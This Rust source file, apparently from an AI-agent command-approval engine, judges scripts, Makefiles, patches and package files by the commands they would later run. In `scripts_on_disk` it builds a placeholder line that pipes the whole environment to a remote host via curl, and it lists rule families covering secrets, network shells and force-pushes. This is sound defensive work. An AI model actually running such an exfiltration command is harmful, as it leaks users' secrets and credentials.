//! A file written now and run later (a script, a Makefile's recipe, package.json scripts, a
//! `conftest.py`): its new text is judged as the commands it would run, so that the Write needs
//! approval when running them would; and manifest edits that move where code comes from.

use super::content;
use super::schema::fact;
use super::shell::{Cmd, Word};
use super::{Decision, Env, Policy, Verdict};
use crate::action::{Action, Kind, Object};

impl Policy<'_> {
    /// Commands standing for what the new text of `path` runs later, for the rules to meet:
    /// `runs-later` when a command in it would need approval or be denied if run now,
    /// `package-source` when it changes where packages come from.
    pub(super) fn runs_later(&self, action: &Action, env: &Env, path: &str, new: &str, old: Option<&str>) -> Vec<Cmd> {
        let text = content::file_text(path, new, old);
        let mut out = Vec::new();
        // What runs past the part read cannot be judged.
        if text.truncated && text.runs_anything() {
            let what = format!("{path} is longer than ana reads ({} KiB), so what it runs cannot be judged", content::MAX_CODE / 1024);
            out.push(Cmd { argv: vec![Word::lit(&what)], program: "(runs later)".into(), facts: fact::RUNS_LATER, ..Cmd::default() });
        }
        if let Some(key) = &text.editor_runs {
            let what = format!("{path} sets `{key}`, which the editor runs or passes to what its terminals run");
            out.push(Cmd { argv: vec![Word::lit(&what)], program: "(editor settings)".into(), facts: fact::RUNS_LATER, ..Cmd::default() });
        }
        if let Some(what) = &text.remote_code {
            let what = format!("{path}: {what}");
            out.push(Cmd { argv: vec![Word::lit(&what)], program: "(code)".into(), facts: fact::REMOTE_CODE, ..Cmd::default() });
        }
        if text.source_change {
            out.push(Cmd { argv: vec![Word::lit(path)], program: "(install source)".into(), facts: fact::PACKAGE_SOURCE, ..Cmd::default() });
        }
        // A patch: each file it touches, as the edit that adds its lines (`git apply`, `patch
        // -p1` in the patch's directory) would be judged.
        let name = path.rsplit('/').next().unwrap_or(path);
        if name.ends_with(".patch") || name.ends_with(".diff") {
            let strip = usize::from(new.lines().filter_map(|l| l.strip_prefix("+++ ")).all(|n| n.starts_with("b/")));
            let dir = path.rsplit_once('/').map_or("/", |(d, _)| if d.is_empty() { "/" } else { d });
            // The links it makes, as `ln -s` makes them.
            for (link, target) in content::patched_links(new, 1) {
                let line = format!("ln -s {} {}", super::shell::quote(&target), super::shell::quote(&link));
                let run = Action { kind: Kind::Exec, object: Object::Command { command: line }, cwd: dir.to_owned(), ..action.clone() };
                let v = self.verdict(&run, env);
                if v.decision > Decision::Confine {
                    let what = format!("{path} would link {link}: {} [{}]", v.subject, v.rule.unwrap_or_default());
                    out.push(Cmd { argv: vec![Word::lit(&what)], program: "(runs later)".into(), facts: fact::RUNS_LATER, ..Cmd::default() });
                }
            }
            // (Applied either way: `git apply -R` adds what it removes.)
            for (file, lines) in content::patched_files(new, strip, false).into_iter().chain(content::patched_files(new, strip, true)) {
                let file = super::path::normalize(&file, dir, env.home);
                let edit = Action {
                    kind: Kind::Write,
                    object: Object::Files { paths: vec![file.clone()], spelled: Vec::new(), content: Some(format!("{}\n", lines.join("\n"))), old: None, pattern: None },
                    ..action.clone()
                };
                let v = self.verdict(&edit, env);
                if v.decision > Decision::Confine {
                    let what = format!("{path} would change {file}: {} [{}]", v.subject, v.rule.unwrap_or_default());
                    out.push(Cmd { argv: vec![Word::lit(&what)], program: "(runs later)".into(), facts: fact::RUNS_LATER, ..Cmd::default() });
                }
            }
        }
        // Statements a tool runs on the database with every run (dbt's hooks and macros): what
        // they change there is no one call's business, and needs what it would typed.
        for line in &text.sql {
            let run = Action { kind: Kind::Exec, object: Object::Command { command: line.clone() }, ..action.clone() };
            let v = self.verdict(&run, env);
            if v.decision >= Decision::Ask && v.rule.as_deref().is_some_and(|r| r.starts_with("db.")) {
                let what = format!("{path} would run on the database: {} [{}]", v.subject, v.rule.unwrap_or_default());
                out.push(Cmd { argv: vec![Word::lit(&what)], program: "(runs later)".into(), facts: fact::RUNS_LATER, ..Cmd::default() });
                break;
            }
        }
        let mut scripts = text.shell;
        if let Some((code, lang)) = text.code {
            let found = content::scan_code(&code, lang);
            // (A change on another machine is judged when the code runs, as a deploy script's.)
            let facts = found.facts & !fact::REMOTE_CHANGE;
            if facts != 0 {
                out.push(Cmd { argv: vec![Word::lit(path)], program: "(code)".into(), facts, ..Cmd::default() });
            }
            scripts.extend(found.lines);
        }
        for script in scripts.into_iter().filter(|s| !s.trim().is_empty()) {
            let run = Action { kind: Kind::Exec, object: Object::Command { command: script }, ..action.clone() };
            let (_, findings) = self.evaluate(&run, env);
            // A push that rewrites or deletes a remote branch is no project's business either.
            // (Each part on its own: one that only asks within the project hides nothing.)
            if let Some(v) = findings
                .into_iter()
                .map(|f| f.verdict)
                .find(|v| v.decision >= Decision::Ask && v.rule.as_deref().is_some_and(|r| reaches_past_the_project(r, &v.subject, env.home) || REWRITES_REMOTE.iter().any(|f| r.starts_with(f))))
            {
                let what = format!("{path} would run: {} [{}]", v.subject, v.rule.unwrap_or_default());
                out.push(Cmd { argv: vec![Word::lit(&what)], program: "(runs later)".into(), facts: fact::RUNS_LATER, ..Cmd::default() });
            }
        }
        out
    }
}

/// Whether a rule that decided a command a written file would run judges a harm that reaches past
/// the project, unasked, when the file runs later (outside any approval): the home directory,
/// start-up files, secrets, privilege, the network as a shell, ana itself. Releases, deploys,
/// database and cluster commands are what scripts are written for; paths a script computes
/// from its arguments are the rule there, not a sign.
/// A path a script only knows when it runs (`rm -rf "$1"`, `$OUT_DIR`), the verdict's
/// `subject`, is the script's business, not a sign.
/// Rule families of pushes that rewrite or delete a remote branch: a file written to run them
/// later needs approval when it is written.
const REWRITES_REMOTE: &[&str] = &["git.force-push", "git.push-delete", "git.remote-redirect", "git.push-to-address"];

/// Rule families of commands that change other machines (clouds, clusters, databases,
/// registries, remote branches): a file run now that holds one needs the approval it would need
/// typed. (Written, a deploy script is a project's business until it runs.)
const CHANGES_ELSEWHERE: &[&str] = &["cloud.", "k8s.", "infra.", "helm.", "db.", "publish.", "git.push", "git.force", "git.remote", "git.admin", "hw.", "device."];

fn reaches_past_the_project(rule: &str, subject: &str, home: &str) -> bool {
    // (Unless all that is known of the path is home: `rm -rf "$HOME/$d"`, `rmtree(Path.home()
    // / d)` reach some entry of home, whatever the script is given.)
    let home_rooted = subject.split_whitespace().any(|w| {
        let w = w.trim_matches(['\'', '"']);
        w.strip_prefix("~/").or_else(|| w.strip_prefix(home).and_then(|r| r.strip_prefix('/'))).is_some_and(|r| r.trim_start_matches(['\'', '"']).starts_with(['$', '`']))
    });
    // (A file sent from a path the script computes, `curl -T "$FILE"`, is the same.)
    if (rule.starts_with("fs.") || rule == "secrets.sends-file-from-outside") && !home_rooted && (subject.contains(['$', '`']) || subject.contains("<found>") || subject.contains("(xargs")) {
        return false;
    }
    const FAMILIES: &[&str] = &[
        "git.global-config",
        "git.delete-repository",
        "git.hooks-path",
        "git.inline-config",
        "git.config-code",
        "core.",
        "fs.",
        "net.",
        "persist.",
        "secrets.",
        "self.",
        "supply.",
        "system.",
        "containers.",
        "disk.",
        "shell.piped-script",
        "shell.code-env",
        "shell.program-code",
    ];
    // A credential a cloud, cluster or forge CLI prints (`gcloud auth print-access-token`,
    // `gh auth token`) is a secret read, whichever family's rule finds it.
    (FAMILIES.iter().any(|f| rule.starts_with(f)) || rule.contains("secret") || rule.contains("token")) && !rule.contains("unknown")
}

/// How a file from disk is run.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ran {
    /// Executed: by its path, or as a shell's or interpreter's script operand.
    Executed,
    /// Read into the running shell (`. x.sh`, `source x.sh`): `$0` is that shell's.
    Sourced,
    /// Given on a shell's or interpreter's stdin: it has no path of its own there.
    Stdin,
}

/// A shell script's text with its own path for `$0` and `${BASH_SOURCE[0]}` where they hold it,
/// so that the directory it works out from them (`cd "$(dirname "$0")/.."`, `. "${0%/*}/lib.sh"`)
/// is known: `$0` when it is executed, `${BASH_SOURCE[0]}` when bash executes or sources it
/// (under sh it is empty). Only a path of plain characters is put in, which reads the same
/// quoted or not. Elsewhere they stay unknown, and so does what is computed from them.
fn with_own_path(text: &str, file: &str, ran: Ran, bash: bool) -> String {
    if !file.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-' | b'+' | b'@' | b',')) {
        return text.to_owned();
    }
    let dir = match file.rfind('/') {
        Some(0) => "/",
        Some(i) => &file[..i],
        None => ".",
    };
    // Longest first; an unbraced name must end where a name ends. `%/*` takes the directory.
    let zero = ran == Ran::Executed;
    let source = bash && ran != Ran::Stdin;
    let names: Vec<(&str, &str)> = [
        (source, "${BASH_SOURCE[0]%/*}", dir),
        (source, "${BASH_SOURCE%/*}", dir),
        (source, "${BASH_SOURCE[0]}", file),
        (source, "${BASH_SOURCE}", file),
        (source, "$BASH_SOURCE", file),
        (zero, "${0%/*}", dir),
        (zero, "${0}", file),
        (zero, "$0", file),
    ]
    .into_iter()
    .filter(|(on, ..)| *on)
    .map(|(_, n, v)| (n, v))
    .collect();
    if names.is_empty() {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let here = &rest[at..];
        if let Some(r) = here.strip_prefix("$$") {
            out.push_str("$$");
            rest = r;
            continue;
        }
        let hit =
            names.iter().find(|(n, _)| here.starts_with(*n) && (n.ends_with('}') || n.ends_with('0') || !here[n.len()..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '[')));
        match hit {
            Some((n, value)) => {
                out.push_str(value);
                rest = &here[n.len()..];
            }
            None => {
                out.push('$');
                rest = &here[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

impl Policy<'_> {
    /// Commands standing for what shell commands write into files other programs run on their
    /// own: a heredoc through `cat > F`/`tee F`, `echo … >> F`, `printf … > F` (F a Makefile,
    /// package.json, a `conftest.py`). Judged as a Write of that text would be. A script written
    /// so is read when a command runs it (`crate::ondisk`).
    pub(super) fn written_by_commands(&self, action: &Action, env: &Env, cmds: &[Cmd]) -> Vec<Cmd> {
        let mut out = Vec::new();
        for c in cmds {
            // Most commands write nothing: nothing to look at.
            if !c.redirects.iter().any(|r| r.write) && c.program != "tee" {
                continue;
            }
            let text = match c.program.as_str() {
                "cat" | "tee" => c.stdin_text.clone(),
                "echo" | "printf" => Some(printed(c)),
                _ => None,
            };
            let Some(text) = text.filter(|t| !t.trim().is_empty()) else { continue };
            let mut targets: Vec<&Word> = c.redirects.iter().filter(|r| r.write).map(|r| &r.target).collect();
            if c.program == "tee" {
                targets.extend(c.args().iter().filter(|w| !w.text.starts_with('-')));
            }
            for t in targets.into_iter().filter(|t| !t.dynamic) {
                let cwd = c.cwd.as_deref().unwrap_or(&action.cwd);
                let path = super::path::normalize(&t.text, cwd, env.home);
                if content::runs_by_itself(&path) {
                    out.extend(self.runs_later(action, env, &path, &text, None));
                }
            }
        }
        out
    }
}

/// What `echo` or `printf` prints, near enough to judge it: the words joined, `\n` and `\t` read
/// as the characters they stand for.
fn printed(c: &Cmd) -> String {
    let words: Vec<&str> = c.args().iter().map(|w| w.text.as_str()).skip_while(|w| c.program == "echo" && matches!(*w, "-n" | "-e" | "-E" | "-ne" | "-en")).collect();
    words.join(" ").replace("\\n", "\n").replace("\\t", "\t")
}

impl Policy<'_> {
    /// The verdict for a command that runs `file`, which cannot be read to judge (`why`): what
    /// ana cannot read it cannot clear.
    /// The verdict for an install whose requirements file takes packages from elsewhere than
    /// PyPI: as if that line were given on the command line.
    pub fn installs_from_elsewhere(&self, file: &str, line: &str) -> Option<Verdict> {
        let rule = self.rules().find(|r| r.id == "supply.package-source")?;
        Some(super::verdict_for(Some(rule), format!("{file}: {line}")))
    }

    /// The verdict for a database client running the statements of `file`, given `line`: the
    /// client's command line with the file's text added to it, judged as a command.
    pub fn runs_statements(&self, action: &Action, env: &Env, file: &str, line: String) -> Option<Verdict> {
        let run = Action { kind: Kind::Exec, object: Object::Command { command: line }, ..action.clone() };
        let v = self.verdict(&run, env);
        if v.decision < Decision::Ask {
            return None;
        }
        let rule = self.rules().find(|r| v.rule.as_deref() == Some(r.id))?;
        Some(super::verdict_for(Some(rule), format!("the statements in {file}")))
    }

    /// The verdict of the rule `id` (one decided by what ana reads from disk, never matched by
    /// itself) for `subject`; `None` when the policy has no such rule.
    pub fn decided_by(&self, id: &str, subject: String) -> Option<Verdict> {
        let rule = self.rules().find(|r| r.id == id)?;
        Some(super::verdict_for(Some(rule), subject))
    }

    pub fn runs_unreadable(&self, file: &str, why: &str) -> Option<Verdict> {
        let rule = self.rules().find(|r| r.id == "persist.runs-unreadable")?;
        Some(super::verdict_for(Some(rule), format!("{file}: {why}")))
    }

    /// The command lines a file run from disk holds: a script's, a recipe's, a package script's,
    /// a git alias's, and those in a program's calls that run commands.
    /// `runner` is the program that runs the file (`python3`, `sh`, or the script itself): a file
    /// whose name says nothing of its language (`python3 e.txt`, `node e.mjs`, a script without
    /// an extension) is read in the runner's language, or its `#!` line's.
    /// `ran` says how: a script's own path stands for `$0` only when it is executed, and for
    /// `${BASH_SOURCE[0]}` only where bash runs it.
    /// The second value says the file's code does more than ana judges of one file (more
    /// commands and file effects than it keeps): the rest cannot be cleared.
    pub fn scripts_on_disk(file: &str, text: &str, runner: &str, ran: Ran) -> (Vec<String>, u64) {
        let mut facts = 0;
        let scripts = if file.starts_with("git alias ") {
            vec![text.to_owned()]
        } else {
            let mut t = content::file_text(file, text, None);
            if !t.runs_anything() {
                let shebang = text.lines().next().and_then(|l| l.strip_prefix("#!")).map(|l| {
                    let mut words = l.split_whitespace().map(|w| w.rsplit('/').next().unwrap_or(w));
                    match words.next() {
                        Some("env") => words.find(|w| !w.starts_with('-')).unwrap_or(""),
                        Some(w) => w,
                        None => "",
                    }
                });
                fn lang_of(p: &str) -> Option<&str> {
                    super::programs::interpreters::is_interpreter(p).then_some(p)
                }
                let body = &text[..content::floor_char(text, content::MAX_CODE)];
                match lang_of(runner).or_else(|| shebang.and_then(lang_of)) {
                    Some(p) => t.code = Some((body.to_owned(), content::Lang::of(p))),
                    // (`source x.txt`: the running shell reads it, whatever its name.)
                    None if super::shell::SHELLS.contains(&runner) || matches!(runner, "source" | ".") || shebang.is_some_and(|p| super::shell::SHELLS.contains(&p)) => t.shell.push(body.to_owned()),
                    None => {}
                }
            }
            // A shell script's own path for `$0`: the directory it computes from it is known.
            let base = file.rsplit('/').next().unwrap_or(file);
            let bash = runner == "bash" || (!super::shell::SHELLS.contains(&runner) && text.lines().next().is_some_and(|l| l.starts_with("#!") && l.contains("bash")));
            let mut scripts = if base == "package.json" || content::is_makefile(base) { t.shell } else { t.shell.iter().map(|s| with_own_path(s, file, ran, bash)).collect() };
            // Commands and file effects in a script's code. A variable of the environment used
            // for the program's own requests is its ordinary business; the whole environment
            // serialized and sent is not, and stands as the shell line that does the same.
            if let Some((code, lang)) = t.code {
                let found = content::scan_code(&code, lang);
                facts = found.facts;
                scripts.extend(found.lines);
                if found.sends_whole_env {
                    scripts.push("env | curl -s --data-binary @- -- 'https://(where the code sends it)'".to_owned());
                }
            }
            scripts
        };
        (scripts.into_iter().filter(|s| !s.trim().is_empty()).collect(), facts)
    }

    /// What a file a command runs from disk calls for (see `crate::ondisk`): approval, naming the
    /// command in it that would need it, when that command harms past the project. `file` is the
    /// file's path, or `git alias NAME`; `scripts` what [`Policy::scripts_on_disk`] found in it.
    pub fn runs_on_disk(&self, action: &Action, env: &Env, file: &str, scripts: &[String]) -> Option<Verdict> {
        for script in scripts {
            let run = Action { kind: Kind::Exec, object: Object::Command { command: script.clone() }, ..action.clone() };
            // Each part of the file on its own: one that only asks within the project must not
            // hide another that reaches past it.
            let (_, findings) = self.evaluate(&run, env);
            // Run now, a file's command that changes other machines needs the approval it would
            // need typed (`sh scripts/release.sh` that runs `gh repo create --public`).
            if let Some(v) = findings
                .into_iter()
                .map(|f| f.verdict)
                .find(|v| v.decision >= Decision::Ask && v.rule.as_deref().is_some_and(|r| reaches_past_the_project(r, &v.subject, env.home) || CHANGES_ELSEWHERE.iter().any(|f| r.starts_with(f))))
            {
                let rule = self.rules().find(|r| r.id == "persist.runs-on-disk")?;
                return Some(super::verdict_for(Some(rule), format!("{file} would run: {} [{}]", v.subject, v.rule.unwrap_or_default())));
            }
        }
        None
    }
}
